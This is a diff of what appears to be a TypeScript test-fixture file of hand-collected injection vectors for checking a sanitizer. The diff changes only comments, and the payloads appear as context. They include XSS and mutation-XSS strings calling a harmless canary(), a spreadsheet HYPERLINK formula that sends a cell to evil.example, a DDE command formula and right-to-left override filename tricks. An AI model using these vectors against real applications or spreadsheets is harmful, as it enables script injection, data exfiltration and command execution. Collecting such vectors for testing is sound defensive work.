@@ -1,7 +1,5 @@
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are the templates of others
-/**
- * What attackers write, collected by hand. `canary()` reports that it ran; every foreign address is on evil.example.
- */
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template syntaxes of other languages
+/** Hand-collected injection vectors. `canary()` reports that a script ran; every foreign URL is on evil.example. */
 
 const scripts = [
   '<script>canary()</script>',
@@ -72,7 +70,7 @@ const drawings = [
   '<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>',
 ];
 
-/** Texts that a sanitizer takes for harmless, and that a second parse turns around. */
+/** Mutation XSS: texts that pass a sanitizer and become dangerous when parsed a second time. */
 const mutants = [
   '<svg></p><style><a id="</style><img src=x onerror=canary()>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">',
@@ -150,7 +148,7 @@ const breakouts = [
   '\ncanary()\n',
 ];
 
-/** For a spreadsheet, a database, a shell or a log, should one of these texts get there. */
+/** Vectors against spreadsheets, databases, shells and logs. */
 const others = [
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
   "=cmd|'/C calc'!A0",
@@ -174,7 +172,7 @@ const others = [
   'mailto:x@evil.example?subject=canary()',
 ];
 
-/** Characters that hide, turn or break what stands around them. */
+/** Characters that hide, reverse or break the text around them. */
 const characters = [
   '\u202Egnp.exe\u202C',
   '\u2066\u2067\u2068\u2069 isolate',
@@ -196,7 +194,7 @@ const characters = [
   '   ',
 ];
 
-/** Every vector once, each of another kind than its neighbours where the list allows it. */
+/** Every vector once. Neighbors are of different types if possible. */
 export const vectors: readonly string[] = [
   ...scripts,
   ...handlers,
